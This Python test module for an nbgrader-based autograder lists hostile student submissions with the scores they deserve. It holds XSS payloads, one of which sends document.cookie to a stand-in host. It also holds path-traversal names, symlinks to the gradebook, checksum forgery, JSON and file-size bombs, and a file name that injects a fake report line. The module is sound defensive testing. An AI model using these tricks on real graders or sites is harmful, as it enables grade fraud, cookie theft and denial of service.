"""The hostile class: what submissions do that want points, secrets or harm, each with the verdict it deserves.

Each row is one student, who hands in the notebook 1_units of the small course (tests/grading/small_course.py): `elu`,
`relu` and `double`, all right but for what the row says. Most rows are files in submissions/: what the student wrote in
the cell of `relu`, with what it deserves on top; what several of them begin with stands in submissions/shared/. A new
attack becomes a row by being put there. The others change the notebook around it, or its file, and stand below.
"""

from __future__ import annotations

import os
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from nbformat import from_dict
from nbgrader.utils import compute_checksum

from tests.grading.small_course import DOUBLE_POINTS, POINTS, cell

SUBMISSIONS = Path(__file__).parent / "submissions"
GROUPS = ("honest", "wrong", "forging", "harm", "spying")

FULL = {"elu_test": float(POINTS["elu"]), "relu_test": float(POINTS["relu"]), "double_test": float(DOUBLE_POINTS)}
"""What the judge gives for right answers."""
NO_RELU = {**FULL, "relu_test": 0.0}
EXPECTED_SCORES: dict[str, dict[str, float] | None] = {
    "everything": FULL,
    "one point less for relu": {**FULL, "relu_test": POINTS["relu"] - 1.0},
    "nothing for relu": NO_RELU,
    "set aside": None,
}


@dataclass(frozen=True)
class Behaviour:
    """One row.

    name: what the submission does; also the student's name. group: what it wants.
    answers: sources by grade_id, in place of the right ones.
    extra: cells of the student's own, each after the cell with a grade_id.
    deserved: score by test cell; None where the notebook is set aside.
    told: words that the instructor's report (flags, notes, problems, differences) has to contain.
    change: what is done to the notebook that was handed in, as a dict; file: what is done to its file.
    """

    name: str
    group: str
    answers: dict[str, str] = field(default_factory=dict)
    extra: tuple[tuple[str, dict[str, Any]], ...] = ()
    deserved: dict[str, float] | None = field(default_factory=lambda: dict(FULL))
    told: str = ""
    change: Callable[[dict[str, Any]], None] | None = None
    file: Callable[[Path], None] | None = None


def own(source: str, name: str = "own", kind: str = "code") -> dict[str, Any]:
    """A cell of the student's own."""
    return cell(kind, name, source)


# ---------------------------------------------------------------- what students wrote

HEAD = re.compile(
    r"# (?P<name>.+)\.\n# deserves: (?P<deserves>.+)\n(?:# told: (?P<told>.+)\n)?(?:# with: (?P<with>.+)\n)?\n"
)
CELL = re.compile(r"^# %% after (\w+)\n", re.MULTILINE)


def behaviour_in(path: Path) -> Behaviour:
    """The row that a file in submissions/ stands for."""
    text = path.read_text(encoding="utf-8")
    head = HEAD.match(text)
    shared = (SUBMISSIONS / "shared" / f"{head['with']}.py").read_text(encoding="utf-8") if head["with"] else ""
    answer, *others = CELL.split(shared + text[head.end() :])
    extra = tuple((after, own(source)) for after, source in zip(others[::2], others[1::2], strict=True))
    name, deserved = head["name"][0].lower() + head["name"][1:], EXPECTED_SCORES[head["deserves"]]
    return Behaviour(name, path.parent.name, {"relu": answer}, extra, deserved, head["told"] or "")


def answers_for(behaviour: Behaviour, root: Path) -> dict[str, str]:
    """The answers of a row. Those that say ROOT know where the course's folder is."""
    known = f"ROOT = {str(root)!r}\n"
    return {name: known + source if "ROOT" in source else source for name, source in behaviour.answers.items()}


# ---------------------------------------------------------------- changed notebooks


def _cell_of(notebook: dict[str, Any], name: str) -> dict[str, Any]:
    return next(one for one in notebook["cells"] if one["metadata"].get("nbgrader", {}).get("grade_id") == name)


def _wrong(notebook: dict[str, Any]) -> None:
    _cell_of(notebook, "relu")["source"] = "def relu(z):\n    return z * 0"


def _duplicate_test(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    test = _cell_of(notebook, "relu_test")
    notebook["cells"] += [{**test, "source": "5.0", "id": f"copy-{number}"} for number in range(3)]


def _delete_test(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    notebook["cells"].remove(_cell_of(notebook, "relu_test"))


def _edit_test(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    _cell_of(notebook, "relu_test")["source"] = "7.0"


def _unlock_and_raise_points(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    _cell_of(notebook, "relu_test")["metadata"]["nbgrader"].update(locked=False, points=1000, solution=True)


def _points_of_nan(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    _cell_of(notebook, "relu_test")["metadata"]["nbgrader"]["points"] = float("nan")


def _test_before_answer(notebook: dict[str, Any]) -> None:
    _wrong(notebook)
    test = _cell_of(notebook, "relu_test")
    notebook["cells"].remove(test)
    notebook["cells"].insert(0, test)


def _answer_twice(notebook: dict[str, Any]) -> None:
    answer = _cell_of(notebook, "relu")
    notebook["cells"].append({**answer, "source": "def relu(z):\n    return z * 0", "id": "again"})


def _swap_names(notebook: dict[str, Any]) -> None:
    for name, other in (("elu_test", "relu_test"), ("relu_test", "elu_test")):
        _cell_of(notebook, name)["metadata"]["nbgrader"]["grade_id"] = f"{other} "
    for one in notebook["cells"]:
        marks = one["metadata"].get("nbgrader", {})
        marks["grade_id"] = marks.get("grade_id", "").strip()


def _odd_grade_ids(notebook: dict[str, Any]) -> None:
    for value in (None, 7, ["relu_test"], {"x": 1}, "../../gradebook.db", "x" * 10_000):
        marks = {"grade_id": value, "grade": True, "solution": False, "points": 50, "schema_version": 3}
        notebook["cells"].append({**own("50.0"), "metadata": {"nbgrader": marks}})


def _own_graded_cell(notebook: dict[str, Any]) -> None:
    marks = {"grade_id": "bonus", "grade": True, "solution": False, "locked": True, "points": 100, "schema_version": 3}
    notebook["cells"].append({**own("100.0"), "metadata": {"nbgrader": marks}})


def _foreign_kernel(notebook: dict[str, Any]) -> None:
    notebook["metadata"] = {"kernelspec": {"name": "../../bin/sh", "language": "bash", "display_name": "<b>x</b>"}}


def _no_metadata(notebook: dict[str, Any]) -> None:
    del notebook["metadata"]


def _old_format(notebook: dict[str, Any]) -> None:
    cells = []
    for one in notebook.pop("cells"):
        kind = one["cell_type"]
        text = {"input": one["source"], "language": "python"} if kind == "code" else {"source": one["source"]}
        extra = {"outputs": [], "collapsed": False, "prompt_number": 1} if kind == "code" else {}
        cells.append({"cell_type": kind, "metadata": one["metadata"], **text, **extra})
    notebook.update(worksheets=[{"cells": cells, "metadata": {}}], nbformat=3, nbformat_minor=0)
    notebook["metadata"] = {"name": ""}


def _live_outputs(notebook: dict[str, Any]) -> None:
    script = "<script>fetch('http://127.0.0.1:1/' + document.cookie)</script><img src=x onerror=alert(1)>"
    bundle = {"text/html": script, "application/javascript": "alert(1)", "image/svg+xml": f"<svg>{script}</svg>"}
    for one in notebook["cells"]:
        if one["cell_type"] == "code":
            one["outputs"] = [{"output_type": "display_data", "data": bundle, "metadata": {}}]
    notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}, "html": script}}


def _large_outputs(notebook: dict[str, Any]) -> None:
    stream = {"output_type": "stream", "name": "stdout", "text": "x" * 5_000_000}
    _cell_of(notebook, "relu")["outputs"] = [stream, {**stream, "text": "\x1b[31m" * 200_000}]


def _many_cells(notebook: dict[str, Any]) -> None:
    notebook["cells"] += [own("1", f"own-{number}") for number in range(100_000)]


def _long_cell(notebook: dict[str, Any]) -> None:
    _cell_of(notebook, "relu")["source"] = "#" * 2_000_000


def _lines_of_spaces(notebook: dict[str, Any]) -> None:
    _cell_of(notebook, "relu")["source"] += " \n" * 90_000


def _renew_checksums(notebook: dict[str, Any]) -> None:
    for one in notebook["cells"]:
        if one["metadata"].get("nbgrader"):
            one["metadata"]["nbgrader"]["checksum"] = compute_checksum(from_dict(one))


def _edit_test_and_renew(notebook: dict[str, Any]) -> None:
    _edit_test(notebook)
    _renew_checksums(notebook)


def _check_as_written_answer(notebook: dict[str, Any]) -> None:
    _cell_of(notebook, "why").update(cell_type="code", source="check(elu)", outputs=[], execution_count=None)


MAGICS = "%time x\n" * 400 + "x = 1\n" * 3000
HELP = "a" * 20_000 + " + b ?"
COLOURS = "print('\\x1b[31m<b>' * 2500)"
FULL_CREDIT = "<div class='full-credit modal-backdrop'>\n\nBecause.\n\n</div>"
RAW_BOX = "<div class='nbgrader_cell'><span id='why'>dead</span></div>"
HREF = "$\\href{javascript:alert(4)}{x}$"

CHANGED = (
    Behaviour("copies a test cell", "notebook", change=_duplicate_test, deserved=NO_RELU, told="more than once"),
    Behaviour("deletes a test cell", "notebook", change=_delete_test, deserved=NO_RELU, told="was missing"),
    Behaviour("edits a test cell", "notebook", change=_edit_test, deserved=NO_RELU, told="was changed"),
    Behaviour(
        "unlocks a test cell and raises its points",
        "notebook",
        change=_unlock_and_raise_points,
        deserved=NO_RELU,
        told="points of relu_test were changed",
    ),
    Behaviour("sets points to NaN", "notebook", change=_points_of_nan, deserved=NO_RELU),
    Behaviour("moves a test cell before the answer", "notebook", change=_test_before_answer, deserved=NO_RELU),
    Behaviour("answers twice", "notebook", change=_answer_twice),
    Behaviour("swaps the names of two test cells", "notebook", change=_swap_names, told="was changed"),
    Behaviour("names cells oddly", "notebook", change=_odd_grade_ids),
    Behaviour("grades a cell of its own", "notebook", change=_own_graded_cell),
    Behaviour("names a foreign kernel", "notebook", change=_foreign_kernel),
    Behaviour("has no metadata", "notebook", change=_no_metadata),
    Behaviour("is in the format of 2013", "notebook", change=_old_format),
    Behaviour("brings live outputs and widgets", "notebook", change=_live_outputs),
    Behaviour("brings outputs of 6 MB", "notebook", change=_large_outputs),
    Behaviour("has a hundred thousand cells", "notebook", change=_many_cells, deserved=None, told="cells"),
    Behaviour("has a cell of two million characters", "notebook", change=_long_cell, deserved=None, told="characters"),
    Behaviour(
        "has ninety thousand lines of spaces",
        "notebook",
        change=_lines_of_spaces,
        deserved=None,
        told="lines of spaces",
    ),
    Behaviour(
        "answers with markup that grows with its square",
        "notebook",
        {"why": "<em title=x>" * 5_000 + "<p>a</p>" * 10_000},
    ),
    Behaviour("renews all checksums", "notebook", change=_renew_checksums),
    Behaviour(
        "edits a test cell and renews its checksum",
        "notebook",
        change=_edit_test_and_renew,
        deserved=NO_RELU,
        told="was changed",
    ),
    Behaviour("checks a function as its written answer", "notebook", change=_check_as_written_answer),
    Behaviour("has four hundred magics in a cell", "notebook", extra=(("relu_test", own(MAGICS)),)),
    Behaviour("asks for help on a long name", "notebook", extra=(("relu_test", own(HELP)),)),
    Behaviour(
        "prints colours in many cells",
        "notebook",
        extra=tuple(("relu_test", own(COLOURS, f"own-{number}")) for number in range(40)),
    ),
    Behaviour("answers with a button for full credit", "notebook", {"why": FULL_CREDIT}),
    Behaviour("puts a score box into a raw cell", "notebook", extra=(("question", own(RAW_BOX, "own", "raw")),)),
    Behaviour("names the place of a formula", "notebook", {"why": "$a$ <span>formu</em>la99.</span>"}),
    Behaviour(
        "answers with markup",
        "notebook",
        {"why": "<script>alert(1)</script> <img src=x onerror=alert(2)> [x](javascript:alert(3)) " + HREF},
    ),
)

# ---------------------------------------------------------------- odd files


def _rewrite(change: Callable[[str], bytes]) -> Callable[[Path], None]:
    def rewrite(path: Path) -> None:
        path.write_bytes(change(path.read_text(encoding="utf-8")))

    return rewrite


def _link_to_the_gradebook(path: Path) -> None:
    path.unlink()
    path.symlink_to(path.parents[3] / "gradebook.db")


def _link_to_another(path: Path) -> None:
    path.unlink()
    path.symlink_to(path.parents[3] / "source" / path.parent.name / path.name)


def _folder(path: Path) -> None:
    path.unlink()
    path.mkdir()


def _pipe(path: Path) -> None:
    path.unlink()
    os.mkfifo(path)


def _link_beside(path: Path) -> None:
    path.with_name("data.bin").symlink_to("/dev/zero")


def _telling_file_beside(path: Path) -> None:
    path.with_name("x; 1_units: all right\nhonest: 0 of 13").write_text("x", encoding="utf-8")


def _sparse(path: Path) -> None:
    with path.open("r+b") as file:
        file.truncate(2**40)


FILES = (
    Behaviour(
        "hands in a page instead of a notebook",
        "file",
        file=_rewrite(lambda text: b"<html>Not found</html>"),
        deserved=None,
        told="HTML page",
    ),
    Behaviour(
        "hands in half a notebook",
        "file",
        file=_rewrite(lambda text: text[: len(text) // 2].encode()),
        deserved=None,
        told="JSON",
    ),
    Behaviour("hands in nothing but brackets", "file", file=_rewrite(lambda text: b"[" * 10_000_000), deserved=None),
    Behaviour(
        "hands in JSON nested ten thousand deep",
        "file",
        file=_rewrite(lambda text: b'{"cells":' * 10_000 + b"1" + b"}" * 10_000),
        deserved=None,
    ),
    Behaviour(
        "hands in a number of a million digits",
        "file",
        file=_rewrite(lambda text: b'{"cells": ' + b"9" * 1_000_000 + b"}"),
        deserved=None,
    ),
    Behaviour(
        "hands in a list", "file", file=_rewrite(lambda text: b"[1, 2, 3]"), deserved=None, told="not a notebook"
    ),
    Behaviour("hands in an empty file", "file", file=_rewrite(lambda text: b""), deserved=None),
    Behaviour("hands in zeros", "file", file=_rewrite(lambda text: bytes(1_000_000)), deserved=None),
    Behaviour("hands in a terabyte of nothing", "file", file=_sparse, deserved=None),
    Behaviour("hands in a link to the gradebook", "file", file=_link_to_the_gradebook, deserved=None, told="link"),
    Behaviour("hands in a link to the solution", "file", file=_link_to_another, deserved=None, told="link"),
    Behaviour("hands in a link to endless zeros beside it", "file", file=_link_beside),
    Behaviour("hands in a file with a telling name", "file", file=_telling_file_beside),
    Behaviour("hands in a folder", "file", file=_folder, deserved=None),
    Behaviour("hands in a pipe", "file", file=_pipe, deserved=None),
    Behaviour(
        "uses a byte order mark and CRLF",
        "file",
        file=_rewrite(lambda text: b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode()),
    ),
    Behaviour(
        "hands in lone surrogates",
        "file",
        file=_rewrite(lambda text: text.replace("Why is ELU better?", "\\ud800\\udfff\\u0000").encode()),
    ),
    Behaviour(
        "hands in NaN and Infinity",
        "file",
        file=_rewrite(
            lambda text: text.replace('"nbformat_minor": 5', '"nbformat_minor": NaN, "x": -Infinity').encode()
        ),
    ),
    Behaviour(
        "repeats keys",
        "file",
        file=_rewrite(
            lambda text: text.replace('"nbformat": 4', '"nbformat": 4, "nbformat": 4, "cells_": []').encode()
        ),
    ),
)

WRITTEN = tuple(behaviour_in(path) for group in GROUPS for path in sorted((SUBMISSIONS / group).glob("*.py")))
BEHAVIOURS = (*WRITTEN, *CHANGED, *FILES)
"""All rows, in the order in which the class is listed."""
